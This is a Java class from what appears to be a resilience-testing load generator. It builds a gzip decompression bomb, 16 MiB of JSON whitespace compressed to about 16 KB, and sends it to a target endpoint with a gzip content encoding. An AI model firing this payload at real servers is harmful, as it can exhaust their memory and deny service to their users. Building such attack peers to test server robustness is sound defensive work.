/* SPDX-License-Identifier: Apache-2.0 */
package org.sbamock.loadgen.attack.peer;

import io.netty.handler.codec.http.HttpHeaderNames;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.util.zip.GZIPOutputStream;
import org.sbamock.loadgen.attack.wire.AttackSession;
import org.sbamock.loadgen.attack.wire.Octets;

/** A peer whose content of some kilobytes decompresses to megabytes. */
final class GzipBomb extends ContentAttack {
  private static final int LENGTH = (1 << 24) - 2;

  GzipBomb() {
    super("gzip-bomb", "Sends 16 MiB of JSON white space, compressed by gzip to 16 KB.");
  }

  @Override
  void request(AttackSession session) throws IOException, InterruptedException {
    session.call(
        json(session.target().function(), Bomb.CONTENT)
            .with(HttpHeaderNames.CONTENT_ENCODING, "gzip"));
  }

  private static final class Bomb {
    static final byte[] CONTENT = compress();

    private static byte[] compress() {
      ByteArrayOutputStream compressed = new ByteArrayOutputStream();
      try (GZIPOutputStream gzip = new GZIPOutputStream(compressed)) {
        gzip.write(Octets.repeat(ascii(" "), LENGTH));
        gzip.write(ascii("{}"));
      } catch (IOException e) {
        throw new IllegalStateException(e);
      }
      return compressed.toByteArray();
    }
  }
}
